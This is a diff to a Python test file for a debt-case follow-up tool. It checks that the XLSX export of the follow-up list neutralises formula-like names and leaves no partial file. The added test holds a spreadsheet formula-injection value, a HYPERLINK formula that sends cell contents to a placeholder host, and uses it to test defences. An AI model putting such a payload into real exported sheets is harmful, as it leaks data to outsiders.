@@ -164,7 +164,7 @@ def test_command_line(
     listed = json.loads(capsys.readouterr().out)
     assert [i["case_id"] for i in listed] == [cases["a"], cases["waiting"], cases["b"]]
     assert main(["--db", url, "follow-up", "list", "--format", "csv"]) == 0
-    assert capsys.readouterr().out.splitlines()[0].startswith("case_id,channel,reason,name")
+    assert capsys.readouterr().out.splitlines()[0].startswith("case_id;channel;reason;name")
     xlsx = tmp_path / "v.xlsx"
     assert main(["--db", url, "follow-up", "list", "--format", "xlsx", "-o", str(xlsx)]) == 0
     from openpyxl import load_workbook
@@ -210,3 +210,38 @@ def test_command_line(
     assert len(found["hits"]) == 3 and "bsn" not in json.dumps(found).lower()
     assert main(["--db", url, "find", "--postcode", "2011AA"]) == 2
     assert "achternaam" in capsys.readouterr().err
+
+
+def test_the_xlsx_list_neutralises_formulas_and_leaves_no_partial_file(tmp_path: Path) -> None:
+    """Names and streets come from the creditors' files: a name like a formula stays text
+    (issue 16's safe output, also for the follow-up list), and a failed write leaves nothing."""
+    from openpyxl import load_workbook
+
+    from app.services.safe_output import OutputFailed
+
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"klik")'
+    item = follow_up.FollowUpItem(
+        case_id=1,
+        channel="home_visit",
+        reason="not_reached",
+        name=hostile,
+        street="@Straat",
+        house_number=3,
+        house_number_suffix="",
+        postcode="2011AA",
+        city="Haarlem",
+        wijk="Oude Stad",
+        reference="S1",
+        closed_on=None,
+        sent_on=None,
+        last_visit=None,
+    )
+    target = tmp_path / "v.xlsx"
+    follow_up.write_xlsx([item], target)
+    sheet = load_workbook(target)["Oude Stad"]
+    cells = [c for row in sheet.iter_rows(values_only=True) for c in row]
+    assert "'" + hostile in cells and "'@Straat 3" in cells
+    assert not any(isinstance(c, str) and c.startswith(("=", "@")) for c in cells)
+    with pytest.raises(OutputFailed):
+        follow_up.write_xlsx([item], tmp_path / "missing" / "v.xlsx")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["v.xlsx"]
